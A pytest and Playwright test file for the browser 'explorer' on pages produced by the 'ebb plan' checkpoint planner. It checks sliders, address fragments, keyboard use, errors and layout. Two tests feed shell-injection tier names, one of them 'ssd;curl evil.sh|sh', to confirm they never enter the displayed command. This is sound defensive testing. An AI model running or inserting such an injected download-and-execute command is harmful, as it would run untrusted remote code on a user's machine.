# SPDX-License-Identifier: Apache-2.0
"""The explorer on a plan's page in a real browser: it answers as `ebb plan` does, never blocks, needs no mouse and no network."""

import json
import os
import shlex
import shutil
import subprocess
import time

import pytest

sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed: ./dev test all installs it")
CHROMIUM = os.environ.get("EBB_CHROMIUM") or shutil.which("chromium")
EBB = os.environ.get("EBB_BINARY")
pytestmark = [
    pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed: ./dev test all installs Debian's"),
    pytest.mark.skipif(not EBB, reason="EBB_BINARY does not name the program"),
]

COSTS = "--state 1MiB --tape 4MiB --forward 2e-3 --backward 4e-3"
KINDS = {
    "plain": f"--steps 300 {COSTS} --budget 60MiB",
    "tier": f"--steps 200 {COSTS} --budget 48MiB --tier ssd:capacity=4GiB,write=1GB/s,read=2GB/s,latency=0.0001",
    "slots": "--steps 10 --strategy revolve --slots 3",
    "sync": f"--steps 100 {COSTS} --record 2.5e-3 --budget 48MiB --tier disk:write_time=1e-3,read_time=2e-3,duplex=no --sync",
    "no limit": "--steps 5",
    "intervals": f"--steps 100 {COSTS} --budget 100MiB --strategy single --interval 10",
}


def plan_of(command):
    assert command.startswith("ebb plan ")
    words = shlex.split(command)[2:]
    return subprocess.run([EBB, "plan", *words, "--json"], check=True, capture_output=True, text=True).stdout


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """The page of a kind, or of `ebb plan` with other words, made once."""
    folder = tmp_path_factory.mktemp("explorer")
    paths = {}

    def make(kind):
        if kind not in paths:
            source, path = folder / f"{len(paths)}.json", folder / f"{len(paths)}.html"
            source.write_text(plan_of(f"ebb plan {KINDS.get(kind, kind)}"))
            subprocess.run([EBB, "view", source, "-o", path], check=True, capture_output=True)
            if 'id="planner"' not in path.read_text():
                pytest.skip("the program was built without Emscripten: its pages have no explorer")
            paths[kind] = path
        return paths[kind]

    return make


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield found
        found.close()


@pytest.fixture
def opened(browser, made):
    """Opens a page; at the end nothing has been said on its console and nothing has been asked of the network."""
    complaints, pages = [], []

    def look(kind, fragment="", width=1100, scheme="light"):
        address = made(kind).as_uri() + fragment
        page = browser.new_page(viewport={"width": width, "height": 900}, color_scheme=scheme)
        page.on("console", lambda message: complaints.append(message.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on(
            "request",
            lambda request: request.url.startswith((made(kind).as_uri(), "blob:")) or complaints.append(request.url),
        )
        page.goto(address)
        page.wait_for_selector("html[data-ready]", state="attached")
        if not fragment:
            page.locator(".explorer summary").click()
        pages.append(page)
        return page

    yield look
    for page in pages:
        page.close()
    assert complaints == []


def field(page, name):
    return page.locator(f'[id="field-{name}"]')


def slider(page, name):
    return field(page, name).locator("xpath=following-sibling::input[@type='range']")


def say(page, name, text):
    field(page, name).fill(text)
    field(page, name).press("Enter")


def settle(page):
    page.wait_for_function("!document.querySelector('[aria-busy]')", timeout=60_000)
    return page.locator(".says").inner_text()


def figures(page):
    return page.locator(".figures dt").all_inner_texts(), page.locator(".figures dd").all_inner_texts()


def expect_as_planned(page):
    """What the page shows is what the `ebb plan` says that it names."""
    settle(page)
    command = page.locator(".command code").inner_text()
    shown = dict(zip(*figures(page), strict=True))
    told = " ".join(
        subprocess.run([EBB, *shlex.split(command)[1:]], check=True, capture_output=True, text=True).stdout.split()
    )
    for label in ("Strategy", "Time", "Bound"):
        assert shown[label] in told
    plan = json.loads(plan_of(command))
    assert (
        shown["Forward steps"] == f"{plan['forwards']} ({plan['advances']} keep nothing, {plan['records']} leave tapes)"
    )
    assert page.locator("h1").inner_text().endswith(f": {plan['strategy']}")
    return plan


@pytest.mark.parametrize("kind", KINDS)
def test_the_command_at_the_start_is_that_of_the_page(opened, made, kind):
    page = opened(kind)
    before = json.loads(plan_of(f"ebb plan {KINDS[kind]}"))
    after = json.loads(plan_of(page.locator(".command code").inner_text()))
    assert after["question"] == before["question"] and after["seconds"] == before["seconds"]


@pytest.mark.parametrize(
    ("kind", "name"),
    [
        (kind, name)
        for kind in ("plain", "tier", "sync")
        for name in ("steps", "budget", "state", "tapes", "forward", "backward")
    ]
    + [("tier", f"ssd.{name}") for name in ("capacity", "write", "read", "latency")]
    + [("sync", "record"), ("sync", "disk.write_latency"), ("slots", "slots"), ("no limit", "budget")],
)
def test_sliders_agree_with_ebb_plan(opened, kind, name):
    page = opened(kind)
    before = page.locator(".command code").inner_text()
    slider(page, name).focus()
    for key in ("ArrowLeft", "ArrowRight"):
        for _ in range(3 if key == "ArrowLeft" else 5):
            page.keyboard.press(key)
        assert page.locator(".command code").inner_text() != before or field(page, name).input_value() == "no limit"
        expect_as_planned(page)


@pytest.mark.parametrize("kind", ["tier", "slots"])
def test_every_figure_is_that_of_a_page_made_for_the_same(opened, kind):
    page = opened(kind)
    say(page, "steps", "23")
    settle(page)
    other = opened(page.locator(".command code").inner_text().removeprefix("ebb plan "))
    assert figures(page) == figures(other)
    assert page.locator("h1").inner_text() == other.locator("h1").inner_text()


def test_a_setting_is_shared_by_its_address(opened):
    page = opened("tier")
    say(page, "steps", "1000")
    say(page, "budget", "0.25 GiB")
    say(page, "ssd.write", "500MB/s")
    page.locator("#field-strategy").select_option("pofo")
    settle(page)
    fragment = page.evaluate("location.hash")
    assert fragment == "#steps=1000&budget=256MiB&ssd.write=500MB/s&strategy=pofo"
    other = opened("tier", fragment)
    settle(other)
    assert figures(other) == figures(page)
    assert field(other, "budget").input_value() == "256MiB"
    assert other.locator(".command code").inner_text() == page.locator(".command code").inner_text()


def test_an_address_that_is_not_understood_is_the_start(opened):
    page = opened("tier", "#steps=-3&budget=much&ssd.write=&strategy=none&tiers=ssd&else=1")
    assert settle(page).startswith("200 steps in 48 MiB")


@pytest.mark.parametrize(
    "names",
    ["ssd%3Bcurl%20evil.sh%7Csh", "work", "ssd,fast", "ssd,ssd", "1", "-x", ",".join(f"t{i}" for i in range(31))],
)
def test_names_of_tiers_in_an_address_are_those_that_a_command_can_have(opened, names):
    page = opened("tier", f"#tiers={names}&steps=100")
    assert list(expect_as_planned(page)["moved"]) == ["ssd"]
    assert "tiers" not in page.evaluate("location.hash")


def test_a_tier_whose_name_is_none_for_a_shell_has_no_command(browser, made, tmp_path):
    text = made("tier").read_text().replace('"name":"ssd"', '"name":"ssd;date|sh"')
    (tmp_path / "page.html").write_text(text)
    page = browser.new_page()
    page.goto(f"{(tmp_path / 'page.html').as_uri()}#steps=100")
    assert "is named 'ssd;date|sh'" in settle(page)
    assert not page.locator(".command").is_visible() and page.locator(".command code").inner_text() == ""
    page.close()


def test_skipping_to_the_page_keeps_the_setting_in_the_address(opened):
    page = opened("plain", "#steps=100")
    settle(page)
    page.locator(".skip").focus()
    page.keyboard.press("Enter")
    assert page.evaluate("[location.hash, document.activeElement.id]") == ["#steps=100", "page"]


def test_tiers_come_and_go(opened):
    page = opened("plain")
    page.locator("#add-tier").click()
    assert page.evaluate("document.activeElement.id") == "field-ssd.capacity"
    plan = expect_as_planned(page)
    assert plan["moved"]["ssd"]["written"] > 0
    say(page, "ssd.write", "20MB/s")
    page.locator("#add-tier").click()
    plan = expect_as_planned(page)
    assert list(plan["moved"]) == ["ssd", "disk"]
    other = opened("plain", page.evaluate("location.hash"))
    settle(other)
    assert figures(other) == figures(page)
    page.get_by_role("button", name="Remove ssd").click()
    assert list(expect_as_planned(page)["moved"]) == ["disk"]
    page.get_by_role("button", name="Back to the start").click()
    assert settle(page).startswith("300 steps in 60 MiB") and page.evaluate("location.hash") in ("", "#")


def test_time_against_budget_follows(opened):
    page = opened("plain")
    say(page, "steps", "50")
    settle(page)
    page.wait_for_selector('svg[aria-label^="Time against budget."]')
    chart = page.locator('svg[aria-label^="Time against budget."]')
    chart.focus()
    texts = set()
    for _ in range(300):
        page.keyboard.press("ArrowRight")
        texts.add(chart.locator("xpath=following-sibling::output").inner_text())
    assert any(text.startswith("This plan, ") for text in texts)


def test_what_does_not_fit_says_what_would(opened):
    page = opened("plain")
    say(page, "budget", "2MiB")
    assert "it needs at least" in settle(page)
    assert page.locator("h1").inner_text() == page.title() == "300 steps in 2 MiB: does not fit"
    outdated = page.get_by_text("Below is the last plan that fits: 300 steps in 60 MiB")
    assert outdated.is_visible() and page.locator(".figures").is_visible()
    page.get_by_role("button", name="Use 6 MiB").click()
    assert field(page, "budget").input_value() == "6MiB"
    assert page.evaluate("document.activeElement.id") == "field-budget"
    expect_as_planned(page)
    assert not outdated.is_visible() and page.locator(".figures").is_visible()


def test_slots_that_do_not_fit_say_what_would(opened):
    page = opened("slots", "#steps=100&slots=0")
    assert "it needs at least 1 slot" in settle(page)
    assert page.locator("h1").inner_text() == "100 steps in 0 slots: does not fit"
    page.get_by_role("button", name="Use 1 slot").click()
    expect_as_planned(page)


def test_what_is_not_understood_is_said(opened):
    page = opened("plain")
    for name, text in (("budget", "lots"), ("steps", "1.5"), ("steps", ""), ("forward", "-1"), ("state", "no limit")):
        good = field(page, name).input_value()
        say(page, name, text)
        assert "is not understood" in page.locator(".faults").inner_text()
        assert field(page, name).get_attribute("aria-invalid") == "true"
        say(page, name, good)
        assert field(page, name).get_attribute("aria-invalid") is None
        assert page.locator(".faults").inner_text() == ""
    expect_as_planned(page)


@pytest.mark.parametrize(
    ("name", "text"),
    [("forward", "1e400"), ("forward", "1e300"), ("budget", "1e300"), ("steps", "1e19"), ("ssd.write", "1e300")],
)
def test_numbers_beyond_the_planners_are_not_understood(opened, name, text):
    page = opened("tier")
    before = page.locator(".command code").inner_text()
    say(page, name, text)
    assert "is not understood" in page.locator(".faults").inner_text()
    assert page.locator(".command code").inner_text() == before


def test_other_fields_are_planned_beside_one_that_is_not_understood(opened):
    page = opened("plain")
    say(page, "steps", "1,000")
    slider(page, "budget").focus()
    page.keyboard.press("ArrowRight")
    assert settle(page).startswith("300 steps in ")
    assert 'Steps: "1,000" is not understood' in page.locator(".faults").inner_text()
    assert field(page, "steps").input_value() == "1,000"


def test_sliders_never_wait_for_the_planner(opened):
    page = opened("plain")
    say(page, "steps", "1000000000")
    page.wait_for_timeout(200)
    assert page.locator(".says").inner_text() == "Planning …"
    started = time.monotonic()
    slider(page, "budget").focus()
    page.keyboard.press("ArrowRight")
    assert time.monotonic() - started < 1
    # What would take minutes is given up for what is asked next.
    say(page, "steps", "500")
    assert settle(page).startswith("500 steps")
    assert time.monotonic() - started < 20


def test_the_keyboard_is_enough(opened):
    page = opened("tier", "#")
    for _ in range(10):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.tagName") == "SUMMARY":
            break
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "field-steps"
    page.keyboard.type("450")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Steps, slider"
    assert settle(page).startswith("450 steps")
    page.keyboard.press("ArrowRight")
    assert page.evaluate("document.activeElement.getAttribute('aria-valuetext')") == field(page, "steps").input_value()
    expect_as_planned(page)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1100, 360])
def test_it_fits_any_width_in_both_themes(opened, width, scheme):
    page = opened("tier", "", width, scheme)
    say(page, "steps", "400")
    settle(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.evaluate("document.documentElement.dataset.theme") == scheme
    assert "NaN" not in page.locator("main").inner_html() and "undefined" not in page.locator("main").inner_text()
    if folder := os.environ.get("EBB_SCREENSHOTS"):
        page.screenshot(path=f"{folder}/explorer-{width}-{scheme}.png")


def test_chains_whose_steps_differ_have_none(made, tmp_path):
    made("plain")
    chain = tmp_path / "chain.json"
    chain.write_text('{"steps":[{"forward":1},{"forward":2}]}')
    page = tmp_path / "page.html"
    subprocess.run([EBB, "plan", "--chain", chain, "--view", page], check=True, capture_output=True)
    assert 'id="planner"' not in page.read_text()
